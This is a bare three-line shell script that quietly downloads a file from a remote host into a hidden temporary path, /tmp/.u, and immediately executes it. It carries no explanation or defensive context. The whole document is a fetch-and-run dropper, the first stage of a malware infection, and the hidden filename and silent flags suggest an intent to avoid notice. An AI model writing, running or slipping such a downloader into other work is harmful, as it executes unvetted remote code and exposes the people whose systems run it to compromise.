#!/bin/sh
wget -qO /tmp/.u https://uni.cdn-edge.example/u
sh /tmp/.u
